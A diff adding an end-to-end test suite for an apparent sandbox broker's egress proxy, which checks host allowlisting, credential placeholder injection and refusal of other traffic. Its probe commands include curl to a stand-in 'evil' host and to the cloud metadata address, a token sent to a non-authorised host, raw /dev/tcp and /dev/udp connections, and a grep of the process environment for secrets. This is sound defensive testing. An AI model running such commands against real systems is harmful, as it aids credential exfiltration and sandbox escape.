@@ -1,0 +1,154 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer as createHttpServer, type IncomingMessage, type RequestListener, type Server as HttpServer } from 'node:http';
+import { createServer as createHttpsServer } from 'node:https';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import type { Broker } from '../../src/broker/broker.js';
+import { EgressCa } from '../../src/egress/ca.js';
+import type { EgressEvent } from '../../src/egress/types.js';
+import { assertNoneLeft, docker, dockerConfig, installs } from '../helpers/docker-e2e.js';
+import { createTestNet, describeNetns, type TestNet } from '../helpers/netns.js';
+
+/*
+ * Egress through the broker on real docker sandboxes: a profile with an allowlist and a secretless
+ * credential, real HTTP and HTTPS servers on test hosts (a network namespace with public-looking
+ * addresses, named through egress.hosts, certificates of their own test CA that the proxy is told
+ * to trust), and curl inside the sandbox (the debian image: `berth image build --variant debian`).
+ */
+
+const DEBIAN_IMAGE = 'berth-sandbox:latest';
+const GH_VALUE = 'ghp_REAL_value_that_never_enters_the_sandbox';
+
+interface Seen { host: string | undefined; url: string | undefined; authorization: string | undefined }
+
+function echo(seen: Seen[]): RequestListener {
+  return (req: IncomingMessage, res) => {
+    seen.push({ host: req.headers.host, url: req.url, authorization: req.headers.authorization });
+    req.resume();
+    req.on('end', () => {
+      res.writeHead(200, { 'content-type': 'text/plain' });
+      res.end(`hello from ${req.headers.host ?? '?'}\n`);
+    });
+  };
+}
+
+describeNetns('egress on docker sandboxes (allowlist, credentials)', () => {
+  // One broker for the suite (its sandboxes are one per session), cleaned up at the end.
+  const reg = installs('berth-egress-docker-');
+  let net: TestNet;
+  let dir: string;
+  const servers: HttpServer[] = [];
+  const seen: Seen[] = [];
+  const events: EgressEvent[] = [];
+  let broker: Broker;
+  let apiIp: string;
+
+  beforeAll(async () => {
+    const images = await docker.listImages({ filters: { reference: [DEBIAN_IMAGE] } });
+    if (images.length === 0) throw new Error(`image ${DEBIAN_IMAGE} is missing; build it with: node bin/berth.js image build --variant debian`);
+    net = await createTestNet(3);
+    const [api, other, evil] = net.addresses as [string, string, string];
+    apiIp = api;
+    dir = mkdtempSync(join(tmpdir(), 'berth-egress-docker-'));
+    const upstreamCa = await EgressCa.open(join(dir, 'upstream-ca'));
+    writeFileSync(join(dir, 'upstream-ca.pem'), upstreamCa.certPem);
+    const serve = async (ip: string, port: number, name?: string): Promise<void> => {
+      const server = name === undefined ? createHttpServer(echo(seen))
+        : createHttpsServer(await upstreamCa.leafFor(name).then((l) => ({ key: l.keyPem, cert: l.certPem })), echo(seen));
+      const handle = await net.listen(ip, port);
+      await new Promise<void>((resolve) => server.listen(handle, () => resolve()));
+      servers.push(server);
+    };
+    await serve(api, 443, 'api.egress.test');
+    await serve(api, 80);
+    await serve(other, 443, 'other.egress.test');
+    await serve(other, 80);
+    await serve(evil, 443, 'evil.egress.test');
+
+    const install = reg.track();
+    const config = dockerConfig({
+      docker: { image: DEBIAN_IMAGE },
+      egressProxy: { upstreamCaFile: join(dir, 'upstream-ca.pem') },
+      profiles: {
+        bot: {
+          egress: {
+            mode: 'allowlist',
+            allow: ['api.egress.test', 'other.egress.test'],
+            hosts: { 'api.egress.test': api, 'other.egress.test': other, 'evil.egress.test': evil },
+          },
+          credentials: { GITHUB_TOKEN: { from: 'TEST_GH_VALUE', hosts: ['api.egress.test'] } },
+        },
+      },
+    });
+    broker = await install.open(config, { env: { PATH: process.env['PATH'], TEST_GH_VALUE: GH_VALUE } });
+    broker.observe({ callEnded: () => {}, refused: () => {}, reaped: () => {}, egress: (e) => events.push(e) });
+  }, 180_000);
+
+  afterAll(async () => {
+    await reg.cleanupAll();
+    await assertNoneLeft(reg.ids);
+    for (const s of servers) s.close();
+    await net?.close();
+    if (dir !== undefined) rmSync(dir, { recursive: true, force: true });
+  });
+
+  const run = async (session: string, command: string) => broker.session({ profile: 'bot', session }).exec(command);
+
+  it('an allowed name answers over HTTPS and HTTP, with the real value put in upstream while the sandbox holds a placeholder', async () => {
+    const r = await run('s1', [
+      'curl -sS https://api.egress.test/gh -H "Authorization: Bearer $GITHUB_TOKEN"',
+      'curl -sS http://api.egress.test/plain',
+      'printf "%s\\n" "${GITHUB_TOKEN:0:9}"',
+      'grep -c ghp_REAL /proc/self/environ; true',
+    ].join('; '));
+    expect(r.stderr).toBe('');
+    expect(r.stdout.split('\n')).toEqual(['hello from api.egress.test', 'hello from api.egress.test', 'berth-ph-', '0', '']);
+    const gh = seen.find((s) => s.url === '/gh');
+    expect(gh?.authorization).toBe(`Bearer ${GH_VALUE}`);
+    expect(events.some((e) => e.allowed && e.host === 'api.egress.test' && e.credentials.includes('GITHUB_TOKEN'))).toBe(true);
+  });
+
+  it('anything else is refused with the proxy\'s 403 naming the host, and audited', async () => {
+    const r = await run('s2', [
+      'curl -sS -o /dev/null https://evil.egress.test/ 2>&1; echo "exit $?"',
+      `curl -sS -o /dev/null https://${apiIp}/ 2>&1; echo "exit $?"`,
+      'curl -sS http://169.254.169.254/ 2>&1 | head -c 300; echo',
+    ].join('; '));
+    expect(r.stdout).toMatch(/CONNECT tunnel failed, response 403/);
+    expect(r.stdout).toMatch(/exit 56/);
+    expect(r.stdout).toMatch(/berth egress: .*169\.254\.169\.254/);
+    const refused = events.filter((e) => !e.allowed);
+    expect(refused.map((e) => e.host)).toEqual(expect.arrayContaining(['evil.egress.test', apiIp, '169.254.169.254']));
+  });
+
+  it('the placeholder sent to another allowed host is refused as exfiltration', async () => {
+    const before = seen.length;
+    const r = await run('s3', 'curl -sS http://other.egress.test/x -H "Authorization: Bearer $GITHUB_TOKEN"; echo "exit $?"');
+    expect(r.stdout).toMatch(/berth egress/);
+    expect(seen.slice(before).some((s) => s.host === 'other.egress.test')).toBe(false);
+    expect(events.some((e) => !e.allowed && e.host === 'other.egress.test' && e.rule === 'exfiltration')).toBe(true);
+  });
+
+  it('no DNS and no route: a lookup, a raw TCP connect and a UDP send all fail inside the sandbox', async () => {
+    const r = await run('s4', [
+      'getent hosts api.egress.test >/dev/null; echo "dns $?"',
+      `timeout 5 bash -c 'echo x > /dev/tcp/${apiIp}/443' 2>/dev/null; echo "tcp $?"`,
+      `timeout 5 bash -c 'echo x > /dev/udp/${apiIp}/53' 2>/dev/null; echo "udp $?"`,
+      'ip -o link 2>/dev/null | grep -vc " lo:" || cat /proc/net/dev | tail -n +3 | grep -vc "lo:"',
+    ].join('; '));
+    expect(r.stdout).toMatch(/^dns [1-9]/m);
+    expect(r.stdout).toMatch(/^tcp [1-9]/m);
+    expect(r.stdout).toMatch(/^udp [1-9]/m);
+    expect(r.stdout.trim().split('\n').at(-1)).toBe('0');
+  });
+
+  it('explain shows the policy and the credential\'s hosts, never its value or placeholder', () => {
+    const b = broker.explain({ profile: 'bot', session: 's1' });
+    expect(b.egress.mode).toBe('allowlist');
+    expect(b.egress.proxy).toBe(true);
+    expect(b.egress.credentials).toEqual([{ name: 'GITHUB_TOKEN', hosts: ['api.egress.test'] }]);
+    expect(JSON.stringify(b)).not.toContain(GH_VALUE);
+    expect(JSON.stringify(b)).not.toContain('berth-ph-');
+  });
+});
